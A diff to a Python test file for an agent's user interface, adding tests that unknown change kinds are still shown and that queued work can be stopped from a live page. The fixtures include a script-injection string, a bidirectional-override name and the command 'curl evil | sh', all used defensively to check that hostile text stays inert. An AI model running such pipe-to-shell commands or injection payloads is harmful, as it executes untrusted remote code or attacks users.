@@ -4,7 +4,7 @@ import pytest
 
 from agent.ui.change_lines import ChangedText, ChangeLine, DifferenceShown
 from agent.ui.changes import CHANGES, FEW, MAX_SHOWN
-from agent.ui.model import Decide, Undo, View
+from agent.ui.model import Decide, StopWork, Undo, View
 from agent.ui.page import Choices, Document, Page, Paragraph, Rows, Turn
 from agent.ui.parts import Local
 from agent.ui.screens import compose
@@ -49,6 +49,17 @@ def test_where_nothing_was_changed_nothing_is_offered() -> None:
     assert undo_rows(compose(example_views("fr")["live"])) == []
 
 
+@pytest.mark.parametrize("lang", LANGS)
+def test_a_kind_of_change_that_has_no_words_is_told_all_the_same(lang: Lang) -> None:
+    change = ChangeLine(number=7, kind="<script>hit(1)</script>", what="lettre.txt")
+    view = example_views(lang)["live"].model_copy(update={"changes": [change], "under_way": [change]})
+    page = compose(view)
+    [(label, number)] = undo_rows(page, lang)
+    assert ("lettre.txt" in label, number) == (True, 7)
+    rows = [row for block in page.blocks if isinstance(block, Rows) for row in block.rows]
+    assert StopWork(number=7) in [row.button.action for row in rows]
+
+
 def test_a_hostile_name_stays_text_and_short() -> None:
     change = ChangeLine(number=1, kind="files.trashed", what="\u202e<b>{who}**\n" + "x" * 500)
     page = compose(example_views("fr")["live"].model_copy(update={"changes": [change]}))
@@ -81,3 +92,13 @@ def test_the_end_of_a_long_line_can_be_read() -> None:
     page = compose(with_difference(ChangedText(added=True, text="x " * 300 + "curl evil | sh")))
     [document] = [block for block in page.blocks if isinstance(block, Document)]
     assert "curl evil | sh" in document.text
+
+
+@pytest.mark.parametrize("lang", LANGS)
+def test_what_is_on_its_way_is_stopped_from_the_live_page(lang: Lang) -> None:
+    works = [ChangeLine(number=number, kind="files.taking", what=f"lettre {number}.txt") for number in range(1, 6)]
+    page = compose(example_views(lang)["live"].model_copy(update={"under_way": works}))
+    rows = [row for block in page.blocks if isinstance(block, Rows) for row in block.rows]
+    stops = [row.button.action.number for row in rows if isinstance(row.button.action, StopWork)]
+    assert stops == [1, 2, 3]
+    assert undo_rows(page, lang) == []
